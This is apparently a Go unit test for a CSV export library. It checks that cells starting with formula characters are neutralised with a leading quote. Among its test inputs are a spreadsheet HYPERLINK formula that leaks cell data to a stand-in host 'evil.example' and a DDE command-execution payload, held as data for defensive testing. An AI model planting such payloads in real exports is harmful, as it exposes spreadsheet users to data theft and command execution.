package csvexport_test

import (
	"encoding/csv"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/engagehq/engage/application/csvexport"
)

func TestFormulasAreDefusedAndEverythingElseKept(t *testing.T) {
	t.Parallel()
	for in, want := range map[string]string{
		`=HYPERLINK("https://evil.example/?"&A1,"click")`: `'=HYPERLINK("https://evil.example/?"&A1,"click")`,
		"+SUM(1,2)": "'+SUM(1,2)", "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0", "@SUM(A1)": "'@SUM(A1)",
		"\t=1+1": "'\t=1+1", "\r=1+1": "'\r=1+1", "＝1+1": "'＝1+1", "＋1": "'＋1", "－1": "'－1", "＠A1": "'＠A1",
		"+": "'+", "-": "'-", "--1": "'--1", "+1.": "'+1.", "-.5": "'-.5", "+1e5": "'+1e5",
		// Plain numbers run nothing.
		"+8613800138000": "+8613800138000", "-5": "-5", "-2.5": "-2.5", "42": "42",
		// Other text is kept, formula-like text inside it included.
		"王小明": "王小明", "Mozilla/5.0 =x": "Mozilla/5.0 =x", "": "", `{"a":1}`: `{"a":1}`, "'quoted": "'quoted",
	} {
		require.Equalf(t, want, csvexport.Cell(in), "%q", in)
	}
}

func TestTheWriterDefusesEveryCell(t *testing.T) {
	t.Parallel()
	var b strings.Builder
	w := csvexport.NewWriter(&b)
	require.NoError(t, w.Write([]string{"ua", "=HYPERLINK(\"x\")"}))
	require.NoError(t, w.Write([]string{"@x", "ok"}))
	w.Flush()
	require.NoError(t, w.Error())
	rows, err := csv.NewReader(strings.NewReader(b.String())).ReadAll()
	require.NoError(t, err)
	require.Equal(t, [][]string{{"ua", `'=HYPERLINK("x")`}, {"'@x", "ok"}}, rows)
}
